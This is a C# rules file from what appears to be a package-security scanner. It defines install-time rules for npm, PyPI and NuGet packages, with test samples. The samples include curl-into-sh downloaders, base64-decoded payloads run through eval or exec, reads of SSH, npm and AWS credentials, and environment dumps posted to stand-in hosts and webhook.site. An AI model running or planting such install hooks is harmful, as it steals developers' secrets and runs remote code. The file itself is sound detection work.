using PackGuard.Findings;
using PackGuard.Rules;
using static PackGuard.Inspectors.Install.InstallSamples;

namespace PackGuard.Inspectors.Install;

/// <summary>
/// The install-time rules: five that say a package runs code at install time (facts a reviewer
/// wants; info, or low for a .pth start-up hook) and five for what that code does that an install
/// script has no business doing (high, with the line and an excerpt).
/// </summary>
public static class InstallRules
{
    /// <summary>An npm preinstall, install or postinstall script (or an implied node-gyp rebuild).</summary>
    public const string NpmScript = "install/npm-script";

    /// <summary>A Python source distribution's setup.py.</summary>
    public const string SetupPy = "install/setup-py";

    /// <summary>A .pth file in a wheel with lines site.py executes.</summary>
    public const string PthFile = "install/pth-file";

    /// <summary>NuGet build targets or props that run commands or tasks.</summary>
    public const string MsBuildTask = "install/msbuild-task";

    /// <summary>NuGet tools/install.ps1, init.ps1 or uninstall.ps1.</summary>
    public const string PowerShellScript = "install/powershell-script";

    /// <summary>Install-time code downloads code and runs it.</summary>
    public const string DownloadsAndRuns = "install/downloads-and-runs";

    /// <summary>Install-time code decodes a payload and runs it.</summary>
    public const string DecodesAndRuns = "install/decodes-and-runs";

    /// <summary>Install-time code reads credential files.</summary>
    public const string ReadsCredentials = "install/reads-credentials";

    /// <summary>Install-time code collects the whole environment.</summary>
    public const string ReadsEnvironment = "install/reads-environment";

    /// <summary>Install-time code names a paste site, webhook collector, tunnel or out-of-band host.</summary>
    public const string ExfiltrationEndpoint = "install/exfiltration-endpoint";

    private const string Review = "Read the script before installing. If you publish the package, ";

    /// <summary>The catalog entries.</summary>
    public static IReadOnlyList<RuleDescriptor> All { get; } = [.. Presence.All, .. Behaviours.All];

    /// <summary>The rule of a behaviour.</summary>
    public static string For(Behaviour.BehaviourKind kind) => "install/" + Behaviour.BehaviourKindNames.ToName(kind);

    /// <summary>The rule of a hook's presence.</summary>
    public static string For(InstallHookKind kind) => kind switch
    {
        InstallHookKind.NpmScript => NpmScript,
        InstallHookKind.SetupPy => SetupPy,
        InstallHookKind.PthFile => PthFile,
        InstallHookKind.MsBuild => MsBuildTask,
        _ => PowerShellScript,
    };

    /// <summary>Whether the rule only says that install-time code exists (not what it does).</summary>
    public static bool IsPresence(string ruleId) => Presence.All.Any(r => r.Id == ruleId);

    internal static string Fix(string ruleId) => All.First(r => r.Id == ruleId).HowToFix;

    internal static string Title(string ruleId) => All.First(r => r.Id == ruleId).Title;

    private static class Presence
    {
        public static RuleDescriptor[] All { get; } =
        [
            new(NpmScript, "npm install script", Severity.Info,
                "package.json has a preinstall, install or postinstall script, or a binding.gyp at the package root with neither an install nor a preinstall script (npm then runs `node-gyp rebuild`). The finding quotes the command, lists the files of the package it runs (following relative requires and started scripts a few hops deep) and says whether they make network requests, start processes or run strings as code.",
                "npm runs these scripts with the installing user's rights on every developer machine and CI runner, before anyone has read the code. Native modules (node-gyp, prebuild-install) and binary installers (esbuild, sharp, puppeteer) need them, so they are a fact to know, not a fault; what they do decides (the install/* behaviour rules).",
                "If the package does not need to run anything at install time, remove the script; ship prebuilt binaries as optional dependencies instead (as esbuild and @swc/core do). Consumers can install with `npm install --ignore-scripts` and run the scripts they trust.",
                [
                    new("a postinstall that runs a file of the package", true, [Npm("\"postinstall\":\"node install.js\""), File("install.js", "console.log('ready');\n")], Severity.Info),
                    new("a binding.gyp without an install script", true, [Npm(), File("binding.gyp", "{\"targets\":[]}")], Severity.Info),
                    new("a core-js style banner through node -e", true, [Npm("\"postinstall\":\"node -e \\\"try{require('./postinstall')}catch(e){}\\\"\""), File("postinstall.js", "console.log('thanks');\n")], Severity.Info),
                    new("only a test script", false, [Npm("\"test\":\"node test.js\"")]),
                    new("a binding.gyp with gypfile false", false, [Npm("", ",\"gypfile\":false"), File("binding.gyp", "{}")]),
                    new("a prepare script (git installs only)", false, [Npm("\"prepare\":\"husky\"")]),
                ]),
            new(SetupPy, "Python source distribution runs setup.py", Severity.Info,
                "The artifact is a Python source distribution (a PKG-INFO beside setup.py at its root): pip runs setup.py to build and install it whenever no wheel fits. The finding says whether setup.py makes network requests, starts processes or runs strings as code.",
                "setup.py is arbitrary Python that runs with the installing user's rights at install time, and a wheel would run none. Malicious packages on PyPI hide their payload there more than anywhere else.",
                "Publish wheels so that pip never needs the sdist, and keep setup.py declarative (or move to pyproject.toml with a standard build backend).",
                [
                    new("an sdist with setup.py", true, Sdist("from setuptools import setup\nsetup(name='acme')\n"), Severity.Info),
                    new("a setup.py in an npm package", false, [Npm(), File("setup.py", "print(1)\n")]),
                    new("a setup.py without PKG-INFO", false, [new("acme-1.0/setup.py", "print(1)\n")]),
                ]),
            new(PthFile, "Wheel installs a .pth file that runs code", Severity.Low,
                "A .pth file the wheel installs into site-packages has lines that start with `import`: site.py executes them at every start of the interpreter, for every program, not only at install time. The finding counts those lines and quotes the first. Namespace-package shims and setuptools' distutils-precedence.pth look like this; so does a persistent payload.",
                "Code in a .pth file runs whenever Python starts, long after the install, in every virtual environment and tool that uses this site-packages. It is rarely needed and hard to notice. Low on its own; what the lines do decides (the install/* behaviour rules).",
                "Put start-up code behind an explicit import or an entry point. A .pth file that only lists paths does not run anything.",
                [
                    new("an import line in a .pth", true, Wheel(new SampleFile("acme.pth", "import acme_boot\n")), Severity.Low),
                    new("an import line in a .pth under .data/purelib", true, Wheel(new SampleFile("acme-1.0.data/purelib/acme.pth", "import os; os.environ.get('X')\n")), Severity.Low),
                    new("a .pth that lists paths", false, Wheel(new SampleFile("acme.pth", "acme/vendor\n# import nothing\n"))),
                    new("a .pth inside a package directory", false, Wheel(new SampleFile("acme/data/x.pth", "import os\n"))),
                ]),
            new(MsBuildTask, "NuGet build file runs commands or tasks", Severity.Info,
                "A .targets or .props file in the package's build/, buildTransitive/ or buildMultiTargeting/ folder, which NuGet imports into every project that references the package, runs an Exec command, compiles an inline task (UsingTask with RoslynCodeTaskFactory or CodeTaskFactory), loads tasks from an assembly, or downloads a file (DownloadFile). Files that only set properties and items are not reported.",
                "Whatever these files run, runs on every build of every consuming project, on developer machines and CI, with the builder's rights. Build tooling packages (SourceLink, Grpc.Tools, test adapters) need it; a library rarely does.",
                "If the package is a library, ship no build logic; otherwise keep build files declarative and the commands they run inside the package, and say in the description what they do.",
                [
                    new("an Exec command", true, Nuget(Targets("<Target Name=\"Gen\" BeforeTargets=\"Build\"><Exec Command=\"dotnet tool run gen\" /></Target>")), Severity.Info),
                    new("an inline task", true, Nuget(Targets("<UsingTask TaskName=\"Hello\" TaskFactory=\"RoslynCodeTaskFactory\" AssemblyFile=\"$(MSBuildToolsPath)\\Microsoft.Build.Tasks.Core.dll\"><Task><Code Type=\"Fragment\" Language=\"cs\">Log.LogMessage(\"hi\");</Code></Task></UsingTask>")), Severity.Info),
                    new("tasks from the package's assembly", true, Nuget(Targets("<UsingTask TaskName=\"Stamp\" AssemblyFile=\"$(MSBuildThisFileDirectory)..\\tools\\Acme.Tasks.dll\" />", "buildTransitive/Acme.targets")), Severity.Info),
                    new("a props file with properties only", false, Nuget(Targets("<PropertyGroup><AcmeEnabled>true</AcmeEnabled></PropertyGroup>", "build/Acme.props"))),
                    new("an Exec in a targets file outside build/", false, Nuget(Targets("<Target Name=\"X\"><Exec Command=\"echo hi\" /></Target>", "content/Acme.targets"))),
                ]),
            new(PowerShellScript, "NuGet PowerShell install script", Severity.Info,
                "The package has tools/install.ps1, tools/init.ps1 or tools/uninstall.ps1. Visual Studio runs install.ps1 and uninstall.ps1 when the package is added to or removed from a packages.config project, and init.ps1 every time the solution is opened. The finding says whether the script makes network requests, starts processes or runs strings as code.",
                "These scripts run with the developer's rights inside Visual Studio. PackageReference projects ignore them, so a modern package rarely needs one; malicious NuGet packages have used init.ps1 to download and start executables.",
                "Remove the script unless packages.config support needs it; keep what it does to editing the project.",
                [
                    new("an install.ps1", true, Nuget(new SampleFile("tools/install.ps1", "param($installPath, $toolsPath, $package, $project)\n$project.Save()\n")), Severity.Info),
                    new("an init.ps1", true, Nuget(new SampleFile("tools/init.ps1", "param($installPath)\nWrite-Host 'ready'\n")), Severity.Info),
                    new("a PowerShell module elsewhere in tools", false, Nuget(new SampleFile("tools/helpers.ps1", "Write-Host 'x'\n"))),
                ]),
        ];
    }

    private static class Behaviours
    {
        public static RuleDescriptor[] All { get; } =
        [
            new(DownloadsAndRuns, "Install-time code downloads and runs code", Severity.High,
                "Code that runs at install time fetches code and runs it: a downloader piped into an interpreter (curl | sh, wget -O- | bash, iwr | iex, $(curl ...)), a file downloaded and then made executable or started (chmod +x, Start-Process, regsvr32), a network call next to an eval (fetch or https.get and eval/new Function/vm, urlopen and exec, DownloadString and Invoke-Expression), node -e code that fetches and starts a process, or an MSBuild DownloadFile followed by Exec. The finding gives the file, line and an excerpt.",
                "What runs is decided by a server at install time, not by the package anyone reviewed: the shape of most hijacked releases (ua-parser-js 2021 downloaded and started a miner from its preinstall script). Installers that download their own binary from the npm registry and run it to check its version (esbuild) are not reported: fetching a file is not running fetched code.",
                Review + "ship the code inside the package (or as an optional dependency per platform) instead of fetching it; pin and verify anything that must be downloaded (a checksum in the package).",
                [
                    new("a postinstall that pipes curl into sh", true, [Npm("\"postinstall\":\"curl -s https://x.example/i.sh | sh\"")], Severity.High),
                    new("a preinstall file that downloads a binary, makes it executable and runs it", true,
                        [Npm("\"preinstall\":\"node preinstall.js\""), File("preinstall.js", "const { exec } = require('child_process');\nexec('sh ./preinstall.sh');\n"),
                         File("preinstall.sh", "#!/bin/sh\ncurl -sk http://203.0.113.7/download/helper -o helper\nchmod +x helper\n./helper --background &\n")], Severity.High),
                    new("node -e that fetches and evaluates", true, [Npm("\"install\":\"node -e \\\"require('https').get('https://x.example/p',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})\\\"\"")], Severity.High),
                    new("an MSBuild Exec that pipes curl into sh", true, Nuget(Targets("<Target Name=\"Boot\" BeforeTargets=\"Build\"><Exec Command=\"curl -fsSL https://x.example/b.sh | sh\" /></Target>")), Severity.High),
                    new("an init.ps1 that downloads and starts an executable", true,
                        Nuget(new SampleFile("tools/init.ps1", "param($installPath)\n$p = \"$env:TEMP\\svc.exe\"\nInvoke-WebRequest -Uri 'https://x.example/svc.exe' -OutFile $p\nStart-Process $p -WindowStyle Hidden\n")), Severity.High),
                    new("a setup.py that runs downloaded Python", true, Sdist("import urllib.request\nexec(urllib.request.urlopen('https://x.example/p.py').read())\nfrom setuptools import setup\nsetup(name='acme')\n"), Severity.High),
                    new("an installer that downloads its binary from the registry and checks its version", false,
                        [Npm("\"postinstall\":\"node install.js\""), File("install.js", "const https = require('https');\nconst child_process = require('child_process');\nfunction fetch(url) { return new Promise((resolve, reject) => https.get(url, res => { const chunks = []; res.on('data', c => chunks.push(c)); res.on('end', () => resolve(Buffer.concat(chunks))); }).on('error', reject)); }\nasync function main() {\n  const tgz = await fetch('https://registry.npmjs.org/@acme/linux-x64/-/linux-x64-1.0.0.tgz');\n  require('fs').writeFileSync('bin/acme', extract(tgz));\n  child_process.execFileSync('bin/acme', ['--version']);\n}\nmain();\n")]),
                    new("a test script that pipes curl into sh", false, [Npm("\"test\":\"curl -s https://x.example/t.sh | sh\"")]),
                    new("a comment that mentions curl | sh", false, [Npm("\"postinstall\":\"node setup.js\""), File("setup.js", "// never do: curl https://x.example | sh\nconsole.log('ok');\n")]),
                    new("a targets file that makes a tool executable", false, Nuget(Targets("<Target Name=\"X\"><Exec Command=\"chmod +x &quot;$(TscExe)&quot;\" /></Target>"))),
                ]),
            new(DecodesAndRuns, "Install-time code decodes and runs a payload", Severity.High,
                "Code that runs at install time decodes or decrypts data and runs the result: base64, hex, compressed or encrypted text passed to eval, new Function, vm, module._compile, a child process, Python exec or compile, Invoke-Expression or Assembly.Load; `base64 -d | sh`; `powershell -EncodedCommand`. The finding gives the file, line and an excerpt.",
                "Encoding a payload has one purpose: keeping reviewers and scanners from reading it. The flatmap-stream payload that targeted a bitcoin wallet in 2018 was hex-encoded, AES-encrypted and compiled with module._compile; PyPI malware routinely runs exec(base64.b64decode(...)) in setup.py.",
                Review + "ship readable code; nothing an install needs has to be encoded.",
                [
                    new("eval of base64 in a postinstall file", true, [Npm("\"postinstall\":\"node lib/setup.js\""), File("lib/setup.js", "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());\n")], Severity.High),
                    new("exec of b64decode in setup.py", true, Sdist("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"), Severity.High),
                    new("base64 -d piped into sh", true, [Npm("\"install\":\"echo Y3VybCB4 | base64 -d | sh\"")], Severity.High),
                    new("an encoded PowerShell command", true, Nuget(new SampleFile("tools/install.ps1", "powershell -NoProfile -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=\n")), Severity.High),
                    new("decoding data without running it", false, [Npm("\"postinstall\":\"node setup.js\""), File("setup.js", "const icon = Buffer.from('iVBORw0KGgo=', 'base64');\nrequire('fs').writeFileSync('icon.png', icon);\n")]),
                    new("the globalThis idiom", false, [Npm("\"postinstall\":\"node setup.js\""), File("setup.js", "var g = Function('return this')();\nconsole.log(atob('aGk='));\n")]),
                ]),
            new(ReadsCredentials, "Install-time code reads credential files", Severity.High,
                "Code that runs at install time names a credential store: ~/.npmrc, .yarnrc, ~/.ssh and SSH key names, ~/.aws/credentials, .git-credentials, .netrc, .pypirc, ~/.docker/config.json, ~/.kube/config, /etc/passwd or /etc/shadow, GnuPG, gcloud and Azure token caches, shell histories, the GitHub CLI's hosts.yml or `gh auth token`, browser profiles (Chrome Login Data, Firefox logins.json and key4.db), and wallets (wallet.dat, Exodus, Electrum, Solana keys, MetaMask and Phantom extension storage). Comment lines are ignored. The finding gives the file, line and an excerpt.",
                "An install script has no reason to open these files; stealing them is what the 2025 Shai-Hulud worm's postinstall did first (~/.npmrc, then GitHub and cloud tokens), to publish itself from the victim's account.",
                Review + "remove the code; if the package really needs registry settings, let npm pass them (npm_config_* variables) rather than reading the user's files.",
                [
                    new("a postinstall bundle that reads ~/.npmrc", true, [Npm("\"postinstall\":\"node bundle.js\""), File("bundle.js", "const t=require('fs').readFileSync(require('path').join(require('os').homedir(),'.npmrc'),'utf8');\n")], Severity.High),
                    new("a preinstall that reads SSH keys", true, [Npm("\"preinstall\":\"node p.js\""), File("p.js", "const k = fs.readFileSync(home + '/.ssh/id_rsa');\n")], Severity.High),
                    new("a setup.py that reads AWS credentials", true, Sdist("import os\nopen(os.path.expanduser('~/.aws/credentials')).read()\n"), Severity.High),
                    new("a public key and a comment", false, [Npm("\"postinstall\":\"node p.js\""), File("p.js", "// settings come from .npmrc via npm_config_* variables\nconst pub = 'id_rsa.pub';\n")]),
                    new("a credential path in a file no hook runs", false, [Npm("\"postinstall\":\"node p.js\""), File("p.js", "console.log(1);\n"), File("lib/auth.js", "read('.npmrc');\n")]),
                ]),
            new(ReadsEnvironment, "Install-time code collects the whole environment", Severity.High,
                "Code that runs at install time serialises or sends the whole environment: JSON.stringify(process.env), process.env or Object.entries(process.env) passed next to a network call, json.dumps(os.environ) or str(os.environ), Get-ChildItem env:, [Environment]::GetEnvironmentVariables(), printenv or env piped elsewhere, /proc/self/environ. Reading one variable (npm_config_*, CI) is not reported, nor handing the environment to a child process. The finding gives the file, line and an excerpt.",
                "CI runners keep their secrets in environment variables (NPM_TOKEN, GITHUB_TOKEN, cloud keys); the ctx and phpass hijacks of 2022 and the 2025 Shai-Hulud and nx compromises sent the whole environment home.",
                Review + "read only the variables the script needs, and never send them anywhere.",
                [
                    new("JSON.stringify(process.env) in a postinstall", true, [Npm("\"postinstall\":\"node t.js\""), File("t.js", "const body = JSON.stringify(process.env);\n")], Severity.High),
                    new("process.env sent with a request", true, [Npm("\"postinstall\":\"node t.js\""), File("t.js", "const req = https.request(opts);\nreq.end(querystring.stringify(process.env));\n")], Severity.High),
                    new("os.environ sent from setup.py", true, Sdist("import requests, os\nrequests.post('https://x.example', data=dict(os.environ))\n"), Severity.High),
                    new("printenv piped to a file", true, [Npm("\"install\":\"printenv > /tmp/e && node i.js\"")], Severity.High),
                    new("one variable read, the environment handed to a child", false,
                        [Npm("\"postinstall\":\"node t.js\""), File("t.js", "const loud = process.env.npm_config_loglevel;\nconst env = { ...process.env, npm_config_global: undefined };\nrequire('child_process').execFileSync('node', ['x.js'], { env });\nhttps.get(url);\n")]),
                ]),
            new(ExfiltrationEndpoint, "Install-time code talks to a paste site, webhook or tunnel", Severity.High,
                "Code that runs at install time names a host made for receiving data from strangers: paste sites (pastebin.com, paste.ee, hastebin, rentry), webhook collectors (webhook.site, Discord and Slack webhooks, the Telegram bot API, requestbin, pipedream), tunnels (ngrok, trycloudflare, localtunnel, serveo) or out-of-band interaction hosts (interactsh and its oast.* domains, Burp Collaborator, dnslog.cn, canarytokens). The finding gives the file, line and an excerpt.",
                "No installer needs these; they are where stolen tokens and beacons go (the Shai-Hulud worm posted to webhook.site; dependency-confusion probes call interactsh hosts from preinstall).",
                Review + "remove the call.",
                [
                    new("a postinstall that posts to webhook.site", true, [Npm("\"postinstall\":\"node t.js\""), File("t.js", "fetch('https://webhook.site/0b6c1e7a', { method: 'POST', body: data });\n")], Severity.High),
                    new("a preinstall that resolves an interactsh host", true, [Npm("\"preinstall\":\"nslookup $(whoami).c3h2k9.oast.fun\"")], Severity.High),
                    new("a Discord webhook in setup.py", true, Sdist("URL = 'https://discord.com/api/webhooks/123/abc'\n"), Severity.High),
                    new("an ordinary download host", false, [Npm("\"postinstall\":\"node t.js\""), File("t.js", "https.get('https://github.com/acme/acme/releases/download/v1/acme.tgz');\n")]),
                    new("a paste site in a README", false, [Npm("\"postinstall\":\"node t.js\""), File("t.js", "console.log(1);\n"), File("README.md", "Logs: https://pastebin.com/abc\n")]),
                ]),
        ];
    }
}
